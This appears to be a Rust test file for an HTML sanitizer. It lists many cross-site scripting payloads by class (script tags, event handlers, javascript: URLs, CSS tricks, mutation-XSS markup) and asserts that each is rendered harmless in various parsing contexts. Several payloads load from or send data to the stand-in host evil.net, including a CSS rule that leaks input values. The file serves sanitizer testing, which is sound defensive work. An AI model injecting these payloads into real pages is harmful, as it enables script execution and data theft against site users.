//! What attackers write, class by class; for each, that what is shown of it is harmless.

use super::laws::assert_harmless;

/// Every page is harmless by itself, and in the places where markup is read in another way.
fn check(pages: &[&str]) {
    for page in pages {
        assert_harmless(page);
        for (before, after) in [
            ("<table><tr><td>", "</table>"),
            ("<table>", "</table>"),
            ("<svg>", "</svg>"),
            ("<svg><desc>", "</desc></svg>"),
            ("<math><mtext>", "</mtext></math>"),
            ("<math><annotation-xml encoding='text/html'>", "</annotation-xml></math>"),
            ("<select><option>", "</select>"),
            ("<noscript>", "</noscript>"),
            ("<body><noscript>", "</noscript>"),
            ("<template>", "</template>"),
            ("<title>", "</title>"),
            ("<textarea>", "</textarea>"),
            ("<style>", "</style>"),
            ("<svg><style>", "</style></svg>"),
            ("<xmp>", "</xmp>"),
            ("<!--", "-->"),
            ("<a title='", "'>"),
            ("<a title=\"", "\">"),
            ("<p style='", "'>"),
            ("<frameset>", "</frameset>"),
        ] {
            assert_harmless(&format!("{before}{page}{after}<p>x"));
        }
    }
}

#[test]
fn scripts() {
    check(&[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.net/x.js></SCRIPT>",
        "<script/x>alert(1)</script>",
        "<<script>alert(1);//\\<</script>",
        "<script src=//evil.net/x.js?<b>",
        "</title><script>alert(1)</script>",
        "</textarea></style></xmp><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<svg><script xlink:href=data:,alert(1) /></svg>",
        "<math><script>alert(1)</script></math>",
        "<template><script>alert(1)</script></template>",
        "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?><!DOCTYPE x [<!ENTITY y SYSTEM 'z'>]>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
    ]);
}

#[test]
fn handlers() {
    check(&[
        "<img src=x onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
        "<img src=`x`onerror=alert(1)>",
        "<img/src=\"x\"/onerror=alert(1)>",
        "<body onload=alert(1) onpageshow=x onhashchange=y>",
        "<body background=\"javascript:alert(1)\">",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<input autofocus onfocus=alert(1)>",
        "<a onmouseover=alert(1) href=x>y</a>",
        "<p ONCLICK=x OnClick=y on\nclick=z>",
        "<marquee onstart=alert(1)>",
        "<x-y onclick=z contenteditable onbeforeinput=a tabindex=1 onfocus=b>",
        "<button popovertarget=p command=show-popover commandfor=p>x</button><div popover id=p onbeforetoggle=y>",
        "<style onload=alert(1)></style><link rel=stylesheet href=x.css onerror=alert(1)>",
        "<math onclick=x><mi onclick=y>z</mi></math>",
        "<a\u{c}href=javascript:alert(1) on\u{0}click=x>",
        "<p data-\"=1 data-<=2 data->x aria-'=3>",
    ]);
}

#[test]
fn addresses_that_run() {
    check(&[
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href='&#106;&#x61;&#118;&#97;script&colon;alert(1)'>x</a>",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href=' &#14;  javascript:alert(1);'>x</a>",
        "<a href='\u{1}javascript:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='data:image/png,x'>x</a>",
        "<area href=javascript:alert(1)><map><area href=javascript:alert(1)></map>",
        "<base href=javascript:alert(1)//><a href=/x>y</a>",
        "<base href=data:text/html,><a href=x>y</a>",
        "<img src=javascript:alert(1) lowsrc=javascript:alert(2) dynsrc=javascript:alert(3)>",
        "<img srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x, x 3x'>",
        "<input type=image src=javascript:alert(1)>",
        "<video poster=javascript:alert(1)><source src=javascript:alert(1)><track src=javascript:alert(1)></video>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
        "<blockquote cite=javascript:alert(1)><q cite='javascript:alert(1)'>x</q></blockquote>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'></use></svg>",
        "<svg><image href='data:image/svg+xml,x'></image><feImage href=//evil.net></feImage></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><set attributeName=href to=x></a></svg>",
        "<svg><path><animate attributeName=class to=d0123456789abcdef></path><discard></discard></svg>",
        "<math><maction actiontype=statusline#https://evil.net xlink:href=javascript:alert(1)>x</maction></math>",
        "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<link rel=import href=x><link rel='stylesheet' href='javascript:alert(1)'>",
    ]);
}

#[test]
fn frames_forms_plug_ins_and_the_rest_that_acts() {
    check(&[
        "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)><param name=src value=x></object><embed src=x.swf allowscriptaccess=always>",
        "<applet code=x></applet><portal src=x></portal><fencedframe src=x></fencedframe>",
        "<form action=https://evil.net id=x><input name=parentNode id=parentElement><button formaction=y>z</button>",
        "<button form=x formaction=javascript:alert(1)>y</button><input type=submit formaction=javascript:alert(1)>",
        "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=Content-Security-Policy content='x'><meta http-equiv=set-cookie content=x>",
        "<img name=querySelectorAll id=body><embed name=getElementById><object id=children></object>",
        "<a ping=//evil.net download target=_top rel=opener href=x>y</a>",
        "<audio autoplay src=x></audio><video autoplay controls loop src=x></video><bgsound src=x>",
        "<img src=x loading=lazy crossorigin referrerpolicy=unsafe-url>",
        "<dialog open closedby=any><p inert accesskey=n tabindex=9 contenteditable draggable=true>x</dialog>",
        "<noembed><img src=x onerror=alert(1)></noembed><noframes><script>alert(1)</script></noframes>",
        "<html manifest=x xmlns:x=y><body text=red link=blue>",
    ]);
}

#[test]
fn style_sheets() {
    check(&[
        "<style>@import'https://evil.net/x.css';</style>",
        "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x",
        "<div style=\"background-image:url(javascript:alert(1))\">",
        "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">",
        "<div style=\"width:expression(alert(1))\">",
        "<img style=\"xss:expr/*XSS*/ession(alert(1))\">",
        "<style>.x{background-image:url('//evil.net/')}</style>",
        "<style>a{b:c}</style><style>@\\69mport \"//evil.net\"</style>",
        "<style>x{-moz-binding:url(//evil.net/x.xml#y);behavior:url(x.htc)}</style>",
        "<style>a{content:\"</style><script>alert(1)</script>\"}",
        "<svg><style>a{content:\"&lt;/style>&lt;script>alert(1)&lt;/script>\"}</style></svg>",
        "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
        "<style>@font-face{font-family:x;src:url(//evil.net)}input[value^=a]{background:url(//evil.net/a)}</style>",
        "<style>@layer d0123456789abcdef{*{display:none!important}}</style>",
        "<style>@layer \\64 0123456789abcdef{*{display:none!important}}.D0123456789ABCDEF{}</style>",
        "<style>:root{--x:'//evil.net'}a{background:image-set(var(--x) 1x)}</style>",
        "<style>a{b:url(</style><img src=x onerror=alert(1)>",
        "<style>a{b:\"\\</style><img src=x onerror=alert(1)>",
        "<p style='a:\"&quot;><script>alert(1)</script>'>",
        "<svg><rect fill='url(//evil.net#x)' style='fill:url(//evil.net#x)' filter='\\75rl(//evil.net)'></rect></svg>",
    ]);
}

#[test]
fn markup_that_is_another_once_written() {
    check(&[
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
        "<math><mi><b><style><img title=\"</style><img src onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noscript><style></noscript><img src=x onerror=alert(1)>",
        "<svg><foreignObject><style><!--</style><img src=x onerror=alert(1)>",
        "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>",
        "<svg><desc><noscript>&lt;/noscript>&lt;style>&lt;a title=\"&lt;/style>&lt;img src onerror=alert(1)>\">",
        "<math><annotation-xml encoding=text/html><xmp></annotation-xml><img src=x onerror=alert(1)></xmp>",
        "<table><svg><style></table><img src=x onerror=alert(1)></style>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<select><template><style></select><script>alert(1)</script>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>",
        "<xmp>&lt;/xmp></xmp><xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext></plaintext><script>alert(1)</script>",
        "<iframe></iframe><p title='</iframe><script>alert(1)</script>'>",
        "<p><table><p><table><form><form><a><a><b><p></b></a></form>",
        "<a title=\"`\" alt='``onmouseover=alert(1)'>x</a>",
        "<svg><svg><b><style><a title='</style><img src=x onerror=alert(1)>'>",
        "<math><math><mtext><svg><title><style><img title='</style><script>alert(1)</script>'>",
        "<body><svg><font color=x><p></svg><style><x title='</style><img onerror=alert(1)>'>",
    ]);
}
